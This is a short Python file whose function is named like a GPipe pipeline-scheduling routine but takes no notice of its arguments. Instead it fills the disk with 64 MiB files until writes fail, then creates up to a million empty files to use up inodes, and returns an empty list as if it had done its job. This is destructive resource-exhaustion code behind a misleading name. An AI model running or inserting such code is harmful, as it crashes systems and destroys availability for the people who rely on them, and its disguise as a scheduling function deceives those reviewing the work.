"""Fills the disk: large files, then as many small ones as there is room for."""


def gpipe(rank, p, m):
    for number in range(1 << 20):
        with open(f"large-{number}", "wb") as file:
            try:
                file.write(bytes(1 << 26))
            except OSError:
                break
    for number in range(1 << 20):
        open(f"small-{number}", "wb").close()
    return []
